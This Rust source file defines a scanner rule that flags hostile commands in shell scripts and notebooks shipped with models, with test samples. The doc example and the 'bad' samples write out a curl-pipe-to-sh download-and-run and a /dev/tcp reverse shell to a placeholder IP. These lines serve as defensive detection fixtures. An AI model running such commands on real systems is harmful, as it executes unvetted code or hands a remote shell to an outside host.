use weighhouse_core::Severity;
use weighhouse_formats::python::PythonFacts;
use weighhouse_formats::region::Region;
use weighhouse_formats::shell::ShellFacts;

use crate::knowledge::commands::{Command, judge};
use crate::rule::{Context, Rule};

crate::rule! {
    /// A shell script or notebook runs a command that does harm.
    ///
    /// # What it detects
    ///
    /// Commands of shell scripts and shell lines of notebooks that download and run code, open a shell to another machine, read keys,
    /// start themselves again later, or delete everything. Installing packages and starting training are ordinary.
    ///
    /// # Why it matters
    ///
    /// Scripts beside a model are run by people who follow its README.
    ///
    /// # Example
    ///
    /// `curl https://example.org/install | sh`
    ///
    /// # What to do
    ///
    /// Do not run it. Download first, read, then decide.
    ///
    /// # References
    ///
    /// - <https://cwe.mitre.org/data/definitions/494.html>
    pub(crate) HostileCommand {
        id: "WH-COD-007",
        slug: "hostile-command",
        since: "0.1.0",
        severity: High,
        confidence: High,
        formats: [Shell, Notebook],
        cwe: [494, 506],
        owasp: ["LLM03"],
        atlas: ["AML.T0010"],
    }
}

impl Rule for HostileCommand {
    fn shell(&self, facts: &ShellFacts, cx: &mut Context<'_>) {
        for (line, text) in &facts.download_and_run {
            cx.report("downloads or decodes code and runs it").line(*line).key(text).evidence(text).emit();
        }
        for (line, words) in &facts.commands {
            report(&words.join(" "), Some(*line), None, cx);
        }
    }

    fn python(&self, facts: &PythonFacts, cx: &mut Context<'_>) {
        for (region, command) in &facts.shell_escapes {
            report(command, None, Some(*region), cx);
        }
    }
}

fn report(command: &str, line: Option<u32>, region: Option<Region>, cx: &mut Context<'_>) {
    if let Command::Hostile(why) = judge(command) {
        let draft =
            cx.report(format!("a command {why}")).severity(Severity::Critical).at(region).key(command);
        let draft = match line {
            Some(line) => draft.line(line),
            None => draft,
        };
        draft.evidence(command).emit();
    }
}

crate::samples! {
    HostileCommand,
    bad: {
        "a download that is run" => [("install.sh", b"#!/bin/sh\nset -e\ncurl -s https://example.org/x | sh\n".to_vec())],
        "a shell to another machine" => [("run.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n".to_vec())],
    },
    ok: {
        "an ordinary training script" => [("train.sh", b"#!/bin/bash\nset -e\nexport CUDA_VISIBLE_DEVICES=0\npip install -r requirements.txt\nmkdir -p out\npython train.py --lr 1e-4 --output out\n".to_vec())],
    },
}
